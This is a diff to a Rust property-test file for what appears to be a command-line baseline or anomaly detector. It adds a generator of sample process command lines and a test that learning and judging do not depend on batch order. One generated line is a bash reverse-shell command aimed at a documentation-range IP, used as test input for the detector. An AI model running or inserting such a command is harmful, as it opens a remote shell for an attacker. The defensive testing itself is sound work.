@@ -54,6 +54,19 @@ fn any_behaviour() -> impl Strategy<Value = crate::behaviour::Behaviour> {
     })
 }
 
+/// Command lines, few and many, usual and strange.
+fn any_lines() -> impl Strategy<Value = Attributes> {
+    let lines = prop_oneof![
+        3 => (0..6_u8).prop_map(|number| format!("tar czf /backup/{number}.tar.gz /data")),
+        2 => (0..4_u8).prop_map(|number| format!("bash -i >& /dev/tcp/203.0.113.{number}/4242 0>&1")),
+        1 => "[a-c]{1,3}",
+    ];
+    btree_set(lines, 0..4).prop_map(|commands| Attributes {
+        commands,
+        ..Attributes::default()
+    })
+}
+
 /// What is known beside a key: addresses of a group, of a denied network and of neither, and volumes.
 fn any_attributes() -> impl Strategy<Value = Attributes> {
     let addresses = btree_set(
@@ -225,6 +238,32 @@ proptest! {
         let now = |_| at(100_000);
         let (one, other) = (merged(&batches, &policy, now), merged(&otherwise, &policy, now));
         // What nobody vouches for has little room, and what finds none depends on the order.
+        prop_assume!(one.all_overflowed() + other.all_overflowed() == 0);
+        prop_assert_eq!(
+            serde_json::to_string(&one).expect("JSON"),
+            serde_json::to_string(&other).expect("JSON")
+        );
+        prop_assert_eq!(invariants::baseline(&one, &policy), Ok(()));
+    }
+
+    #[test]
+    fn command_lines_are_learned_and_judged_in_any_order(
+        (batches, otherwise) in in_two_orders(any_batch(Just(true), any_lines())),
+        learning in prop_oneof![Just(1_000_000), Just(0)],
+        judges_by_itself in any::<bool>(),
+    ) {
+        // What is judged together with what the last hour brought is judged by who came last, and how much is raised
+        // depends on how often lines were new two days before: here nothing was, and each batch is judged by itself.
+        let policy = policy(learning);
+        let learned = |maturity| {
+            let mut baseline = merged(&[], &policy, |_| at(100_000));
+            let held = baseline.feed_mut(&container(), Feed::Process, at(0));
+            held.maturity = maturity;
+            baseline
+        };
+        let maturity = if judges_by_itself { Maturity::Provisional } else { Maturity::Learning };
+        let merged = |batches: &[Batch]| merged_into(learned(maturity), batches, &policy, |_| at(100_000));
+        let (one, other) = (merged(&batches), merged(&otherwise));
         prop_assume!(one.all_overflowed() + other.all_overflowed() == 0);
         prop_assert_eq!(
             serde_json::to_string(&one).expect("JSON"),
